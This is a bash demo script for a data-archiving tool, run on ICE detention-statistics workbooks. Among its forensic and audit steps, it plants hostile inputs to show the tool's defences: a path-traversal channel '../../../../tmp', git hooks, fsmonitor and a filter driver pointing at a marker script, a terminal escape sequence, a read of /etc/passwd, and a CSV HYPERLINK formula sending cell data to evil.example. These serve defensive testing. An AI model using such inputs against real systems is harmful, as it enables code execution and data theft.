#!/usr/bin/env bash
# The whole product on real releases: six ICE FY2025 detention-statistics workbooks,
# committed in publication order into a throwaway archive, then inspected, diffed,
# blamed, audited, watched, verified, pushed, cloned, pinned and cited.
# Offline: uses only files in this repository and servers on 127.0.0.1.
# Output: demo/out/ (archive, clone, remote, reports).
set -euo pipefail
cd "$(dirname "$0")/.."
DATA="$PWD/tests/data/ice-fy25"
OUT="$PWD/demo/out"
rm -rf "$OUT" && mkdir -p "$OUT"
export GIT_AUTHOR_NAME="${GIT_AUTHOR_NAME:-atdarchive demo}" GIT_AUTHOR_EMAIL="${GIT_AUTHOR_EMAIL:-demo@localhost}"
export GIT_COMMITTER_NAME="$GIT_AUTHOR_NAME" GIT_COMMITTER_EMAIL="$GIT_AUTHOR_EMAIL"
export ATDARCHIVE_CONFIG_HOME="$OUT/config"   # the demo's confirmations, not yours
A="atdarchive -C $OUT/archive"
DS=ice-detention-stats
BOOKINS=detention__ice_initial_book_ins_by_arresting_agency_and_month
FACILITIES=facilities__ice_enforcement_and_removal_operations_data
step() { printf '\n\033[1m== %s\033[0m\n$ %s\n' "$1" "${*:2}"; "${@:2}"; }

# --- Archivists: commit each release as an immutable snapshot -------------------------
step "Create an archive (git + DVC)" atdarchive init "$OUT/archive"
step "Declare the dataset; facilities are identified by (Name, City, State)" \
  $A dataset add $DS --title "ICE Detention Statistics FY2025" \
  --agency "U.S. Immigration and Customs Enforcement" \
  --source-url "https://www.ice.gov/detain/detention-management" \
  --key "$FACILITIES=Name,City,State" --timezone America/New_York
for f in "$DATA"/v0*.xlsx; do
  name=$(basename "$f"); day=$(echo "$name" | cut -d_ -f2)
  [ "$day" = 2025-08-01 ] && continue   # committed last below, as a backfill
  step "Commit the release captured $day" $A commit $DS "$f" --published "$day" \
    --archivist demo --source-url "https://www.ice.gov/doclib/detention/FY25_detentionStats.xlsx"
done
step "Backfill: the 2025-08-01 release, recovered later, slots in by publication date" \
  $A commit $DS "$DATA/v03_2025-08-01_FY25_detentionStats08012025.xlsx" --published 2025-08-01 \
  --archivist demo -m "recovered from a web archive"

step "The same bytes written as another form of the same day are refused, naming the release" \
  bash -c "$A commit $DS '$DATA/v05_2025-08-29_FY25_detentionStats08292025.xlsx' --published 08/29/2025 || true"
step "An ambiguous date is refused with both readings, never guessed" \
  bash -c "$A commit $DS '$DATA/v05_2025-08-29_FY25_detentionStats08292025.xlsx' --published 09/08/2025 || true"
step "The dataset's zone (New York): naive times and refs are read in it" \
  bash -c "$A dataset list && $A show $DS@2025-09-11T23:59 | head -2"

# --- Fetch by URL (a local web server stands in for ice.gov) -------------------------
PORT=$(python -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
python -m http.server "$PORT" --bind 127.0.0.1 --directory "$DATA" >/dev/null 2>&1 &
SERVER=$!; trap 'kill $SERVER 2>/dev/null || true' EXIT
for _ in $(seq 50); do python -c "import urllib.request; urllib.request.urlopen('http://127.0.0.1:$PORT/')" 2>/dev/null && break; sleep 0.1; done
step "Fetch the current file again: same bytes, so a 're-checked, unchanged' event" \
  $A fetch $DS "http://127.0.0.1:$PORT/v06_2025-09-11_FY25_detentionStats09112025.xlsx"

# --- Log, show, tables, export, tags ------------------------------------------------
step "History in publication order, newest first (! = audit alert)" $A log $DS --oneline
step "The newest release in full" $A log $DS -n 1
step "What was extracted, and the dates the workbook states about itself" \
  $A show $DS@latest
step "Tag the release in force on 2025-08-20 (the one a paper used)" $A tag $DS@2025-08-20 paper-draft
step "Export the book-ins table from that tag" $A export $DS@paper-draft --table $BOOKINS -o "$OUT/book_ins.csv"
head -4 "$OUT/book_ins.csv"

# --- Forensics: row identity, diff, blame, history ------------------------------------
ATD=atd__active_atd_participants_and_average_length_in_program_by_aor_and_technology
step "Keys: ICE lists one facility twice in 2025-07-07; the key holds for every other row" \
  $A keys $DS --table $FACILITIES
step "A hierarchy key: each AOR row followed by its technologies becomes (AOR, Technology)" \
  $A keys $DS --table $ATD
step "So ATD changes are named by AOR and technology, not paired by guesswork" \
  $A diff $DS@latest~1 $DS@latest --table $ATD --limit 4
step "A renamed row: ICE spells Binghamton 'BINGHAMPTON' (one facility, not one gone + one new)" \
  bash -c "$A diff $DS@latest~1 $DS@latest --table $FACILITIES --limit 0 | grep -E 'renamed|changed'"
step "What the last release changed in the book-ins table (silent revisions of past months)" \
  $A diff $DS@latest~1 $DS@latest --table $BOOKINS
step "Facilities that came and went between the last two releases" \
  $A diff $DS@latest~1 $DS@latest --table $FACILITIES --stat
step "Every table the last release touched" $A diff $DS --stat
step "Blame: which release gave each book-ins number its value" $A blame $DS@latest --table $BOOKINS
step "Blame one cell" $A blame $DS@latest --table $BOOKINS --row Agency=Total --column Nov --cells
step "History of that cell across every release" \
  $A history $DS --table $BOOKINS --row Agency=Total --column Nov

# --- The permanent record: dates, date-time refs, retraction, evidence ---------------
cp "$DATA/v06_2025-09-11_FY25_detentionStats09112025.xlsx" "$OUT/latest.xlsx"
step "A release without a date is refused: a false 'today' would stay in the ledger" \
  bash -c "$A commit $DS '$OUT/latest.xlsx' 2>&1 || true"
D=daily-cases
$A dataset add $D --title "A daily table published several times a day" >/dev/null
printf 'date_of_interest,CASE_COUNT\n12/07/2020,5\n12/08/2020,6\n12/09/2020,7\n' > "$OUT/cases-a.csv"
printf 'date_of_interest,CASE_COUNT\n12/07/2020,5\n12/08/2020,6\n12/09/2020,8\n' > "$OUT/cases-b.csv"
printf 'date_of_interest,CASE_COUNT\n12/05/2020,5\n12/06/2020,6\n' > "$OUT/cases-c.csv"
printf '<<<<<<< HEAD\ndate_of_interest,CASE_COUNT\n=======\n>>>>>>> fix\n' > "$OUT/cases-d.csv"
step "Three releases on one day (date-times), then one whose data ends three days earlier" \
  bash -c "$A commit $D '$OUT/cases-a.csv' --published 2020-12-10T09:00 >/dev/null && \
    $A commit $D '$OUT/cases-b.csv' --published 2020-12-10T13:00 >/dev/null && \
    $A commit $D '$OUT/cases-c.csv' --published 2020-12-10T18:00 | tail -3"
step "A file with git merge-conflict markers is named as such; --keep-unparsed keeps it as evidence" \
  bash -c "$A commit $D '$OUT/cases-d.csv' --published 2020-12-11 2>&1 || true; \
    $A commit $D '$OUT/cases-d.csv' --published 2020-12-11 --keep-unparsed"
step "A date-time ref: the release in force at 14:00 that day" bash -c "$A show $D@2020-12-10T14:00 \
  --json | python -c \"import json,sys; r=json.load(sys.stdin); print(r['id'][:10], r['published'], r['original']['name'])\""
step "The 18:00 release was the wrong file: retract it (kept, struck out, skipped by latest/diff/audit)" \
  $A retract $D@2020-12-10T18:00 --reason "the agency's draft, replaced the same evening"
step "The log shows times where releases share a day, the retraction and the evidence-only file" \
  $A log $D --oneline
step "History of one cell, times shown; its JSON keeps the numbers' types" \
  bash -c "$A history $D --row date_of_interest=12/09/2020 --column CASE_COUNT && \
    $A history $D --row date_of_interest=12/09/2020 --column CASE_COUNT --json | python -c \
    'import json,sys; print([r[\"value\"] for r in json.load(sys.stdin)])'"
step "With --include-retracted the audit sees the data date going back (12/09 -> 12/06)" \
  bash -c "$A audit $D --include-retracted | grep -A2 -E 'ALERT|unparsed'"
step "An annotation: the agency's own notice that revisions in a release were announced" \
  $A annotate $D@latest --announces-revision --note "Agency notice 2020-12-10: Dec 9 count corrected"
printf '{"metadata": {"scraped": "2025-09-11"}, "facilities": [{"name": "A", "beds": 3}]}' > "$OUT/facilities.json"
step "JSON records inside a wrapper object are found (and the path recorded)" \
  bash -c "$A dataset add facility-list >/dev/null && $A commit facility-list '$OUT/facilities.json' \
    --published now && $A show facility-list@latest --json | python -c \
    'import json,sys; print(\"json_path:\", json.load(sys.stdin)[\"json_path\"])'"

# --- Forensic audit ------------------------------------------------------------------
step "Audit the history (one-file HTML report: demo/out/audit.html)" \
  $A audit $DS --since 2025-09-01 --html "$OUT/audit.html" --md "$OUT/audit.md"
step "Fabricate a recycled release: the 2025-07-07 workbook re-posted as '2025-09-25'" \
  $A commit $DS "$DATA/v02_2025-07-07_FY25_detentionStats07072025.xlsx" --published 2025-09-25 \
  --channel mirror -m "September update"
step "The audit flags it: recycled release of 2025-07-07, data dated 2025-07-02" \
  $A audit $DS --since 2025-09-20

step "Plant real errors into the real 2025-09-11 workbook (cell XML only), as ICE makes them" \
  python - "$DATA" "$OUT/planted.xlsx" <<'PY'
import sys
from pathlib import Path
sys.path.insert(0, "tests")
from xlsx_plant import plant, read_cells
data, out = Path(sys.argv[1]), Path(sys.argv[2])
v05, v06 = sorted(data.glob("v05_*.xlsx"))[0], sorted(data.glob("v06_*.xlsx"))[0]
refs = [f"{c}{r}" for r in range(7, 17) for c in "ABC"]   # ATD counts by technology
old = read_cells(v05, "ATD FY25 YTD", refs)
edits = {("ATD FY25 YTD", r): old[r] for r in refs}       # left as two weeks before
note = read_cells(v06, "Footnotes", ["B50"])["B50"]
edits[("Footnotes", "B50")] = note.replace("09/06/2025", "08/16/2025")  # date goes back
plant(v06, out, edits)
print(f"planted {out.name}: a stale ATD table and a footnote dated backwards")
PY
step "A second archive: the 2025-08-29 release, then the planted one" \
  bash -c "atdarchive init '$OUT/planted-archive' >/dev/null && \
    atdarchive -C '$OUT/planted-archive' dataset add $DS >/dev/null && \
    atdarchive -C '$OUT/planted-archive' commit $DS '$DATA/v05_2025-08-29_FY25_detentionStats08292025.xlsx' --published 2025-08-29 >/dev/null && \
    atdarchive -C '$OUT/planted-archive' commit $DS '$OUT/planted.xlsx' --published 2025-09-11 | tail -4"
step "The audit names both first (most significant first; --all for the rest)" \
  atdarchive -C "$OUT/planted-archive" audit $DS --since 2025-09-01

# --- Watch: a local server plays ice.gov over a season ------------------------------
step "Watch the agency's page: six releases, a silent same-name revision, a withdrawal" \
  python demo/watch_demo.py "$DATA" "$OUT"

# --- Archivists: shared storage; researchers: clone, pin, load, cite ------------------
step "Add a shared data remote (a directory here; S3 works the same)" \
  $A remote add shared "$OUT/remote-store" --default
step "Push every snapshot's data to it" $A push $DS
step "A second machine: clone the ledger; its directory remote is not trusted yet" \
  atdarchive clone "$OUT/archive" "$OUT/clone"
step "Pulling through a remote the archive's own config names is refused until confirmed" \
  bash -c "atdarchive -C '$OUT/clone' pull $DS@latest || true"
step "What came with the clone and waits for you (remotes, locks, caches, sources, limits)" \
  atdarchive -C "$OUT/clone" trust list
step "Confirm it (kept in your own config directory, never in an archive), then pull one snapshot" \
  bash -c "atdarchive -C '$OUT/clone' remote confirm shared && atdarchive -C '$OUT/clone' pull $DS@latest"

# --- An archive from someone else is input: a hostile one cannot reach outside -------
python - "$OUT" <<'PY'
import hashlib, json, subprocess, sys
from pathlib import Path
out = Path(sys.argv[1])
hostile = out / "hostile"
subprocess.run(["git", "clone", "-q", str(out / "archive"), str(hostile)], check=True)
ledger = hostile / "datasets/ice-detention-stats/ledger.jsonl"
last = ledger.read_bytes().splitlines()[-1]
event = json.loads(last)
record = {**event["record"], "published": "2025-10-01", "channel": "../../../../tmp"}
record.pop("id")
record["id"] = hashlib.sha256(json.dumps(record, sort_keys=True, separators=(",", ":"),
                                         ensure_ascii=False).encode()).hexdigest()
line = json.dumps({"type": "snapshot", "record": record, "prev": hashlib.sha256(last).hexdigest(),
                   "seq": event["seq"] + 1}, sort_keys=True, separators=(",", ":"),
                  ensure_ascii=False)
ledger.write_bytes(ledger.read_bytes() + line.encode() + b"\n")
PY
step "A forged record naming channel '../../../../tmp' (consistent id and chain) is skipped" \
  atdarchive -C "$OUT/hostile" log $DS --oneline -n 2
step "…and verify names the line (its other complaints here: this clone has no data pulled)" \
  bash -c "atdarchive -C '$OUT/hostile' verify $DS --fast 2>&1 | grep -m2 'line ' || true"
# A copied folder brings its .git/: hooks, fsmonitor and a filter driver planted there
cp -a "$OUT/archive" "$OUT/received"
printf '#!/bin/sh\necho "ran $0" >> %s/PWNED\ncat\n' "$OUT" > "$OUT/evil.sh" && chmod +x "$OUT/evil.sh"
for hook in post-commit reference-transaction pre-commit; do cp "$OUT/evil.sh" "$OUT/received/.git/hooks/$hook"; done
git -C "$OUT/received" config core.fsmonitor "$OUT/evil.sh"
git -C "$OUT/received" config filter.evil.clean "$OUT/evil.sh"
echo '* filter=evil' > "$OUT/received/.gitattributes"
step "A copied archive with planted git hooks, fsmonitor and a filter: tag and verify run none" \
  bash -c "atdarchive -C '$OUT/received' tag $DS@latest received && atdarchive -C '$OUT/received' verify $DS --fast 2>&1 | grep -E '^(note: archive .git|ok)' | cut -c1-150; test ! -e '$OUT/PWNED' && echo 'no planted program ran'"
step "Escape sequences in data print as text: a cell holding ESC[2J does not clear the screen" \
  python -c "from atdarchive.render.safe import cell; print(cell('\x1b[2J<script>'))"
step "Vintages: every value with the interval in which it was the published one (ALFRED-style)" \
  bash -c "$A vintages $DS --table $BOOKINS --format csv | grep -E 'realtime|^\"Total\",\"Nov\"'"
step "Revisions per column and month: how often, how much, how long after first release" \
  $A revisions $DS --table $BOOKINS
step "SQL over the whole history (DuckDB, read-only): the Nov total, release by release" \
  $A sql --dataset $DS "SELECT published, Nov FROM history.$BOOKINS WHERE Agency = 'Total' ORDER BY published"
step "...and the same through the diffs view, with the cell each value came from" \
  $A sql --dataset $DS "SELECT published, old, new, source_cell FROM diffs.$BOOKINS WHERE Agency = 'Total' AND \"column\" = 'Nov'"
step "Writing is refused; files outside the archive cannot be read" \
  bash -c "$A sql --dataset $DS \"SELECT * FROM read_text('/etc/passwd')\" 2>&1 || true; $A sql --dataset $DS 'DROP TABLE releases' 2>&1 || true"
step "A runaway query stops at its time bound with one line (10 billion rows, --timeout 2)" \
  bash -c "$A sql --dataset $DS --timeout 2 'SELECT sum(a.range * b.range) FROM range(100000) a, range(100000) b' || true"
step "Every view as tables in one SQLite file (for Datasette)" \
  $A sql --dataset $DS --export "$OUT/history.sqlite"
printf 'id,note\n1,"=HYPERLINK(""http://evil.example/""&A1)"\n2,-5\n3,plain\n' > "$OUT/notes-2025-09-12.csv"
$A dataset add notes --title "A table with a formula-looking cell" >/dev/null
$A commit notes "$OUT/notes-2025-09-12.csv" >/dev/null
step "CSV written for people runs no formula: a leading ' (OWASP); --raw keeps the cell exactly" \
  bash -c "$A export notes@latest -o '$OUT/notes.csv' && cat '$OUT/notes.csv' && $A export notes@latest -o '$OUT/notes-raw.csv' --raw && sed -n 2p '$OUT/notes-raw.csv'"
step "Pin the snapshot a paper used" $A pin $DS@paper-draft --lock "$OUT/atdarchive.lock"
step "Load exactly the pinned bytes (every file re-hashed)" python -c "import atdarchive; s = atdarchive.load('$DS', lock='$OUT/atdarchive.lock'); print(s.ref, s.published, len(s.table_names), 'tables')"
step "Cite it" $A cite $DS@paper-draft --format bibtex

# --- Explore in a browser: the local web app ------------------------------------------
WEB_PORT=$(python -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
$A serve --port "$WEB_PORT" 2>/dev/null &
WEB=$!; trap 'kill $SERVER $WEB 2>/dev/null || true' EXIT
for _ in $(seq 100); do python -c "import urllib.request; urllib.request.urlopen('http://127.0.0.1:$WEB_PORT/static/app.css')" 2>/dev/null && break; sleep 0.1; done
step "The web app answers every page with a JSON twin: the Nov total of book-ins, release by release" \
  python - "http://127.0.0.1:$WEB_PORT" "$DS" "$BOOKINS" <<'PY'
import json, sys, urllib.request
base, ds, table = sys.argv[1:]
def get(path):
    with urllib.request.urlopen(base + path) as r:
        return r.headers.get("Server-Timing"), json.load(r)
timing, cell = get(f"/datasets/{ds}/tables/{table}/cell?row=Agency%3DTotal&column=Nov&format=json")
for v in cell["values"]:
    print(f"  {v['published']}  {v['status']:10} {v['value']:>8}  {v['source_cell']}")
timing, audit = get(f"/datasets/{ds}/audit?format=json")
top = audit["findings"][0]
print(f"audit page: headline {top['severity']} {top['kind']} -> {top['links'].get('diff')}")
huge = get(f"/datasets/{ds}/diff/latest~1..latest?limit=100000000&format=json")[1]["page"]
print(f"?limit=100000000 is clamped to one page of {huge['limit']:,} (complete: {huge['complete']})")
cross = urllib.request.Request(base + f"/datasets/{ds}/audit",
                               headers={"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"})
try:
    urllib.request.urlopen(cross)
except urllib.error.HTTPError as e:
    print(f"a request another web site makes the browser send -> {e.code}: {e.read().decode().strip()[:90]}")
req = urllib.request.Request(base + "/", method="POST")
try:
    urllib.request.urlopen(req)
except urllib.error.HTTPError as e:
    print(f"POST / -> {e.code} (read-only)")
PY
kill $WEB 2>/dev/null || true
printf '\n\033[1m== Browse the archive yourself (timeline, releases, blame heatmaps, diffs, cells, audit)\033[0m\n'
echo "  atdarchive -C $OUT/archive serve      # then open http://127.0.0.1:8000/"
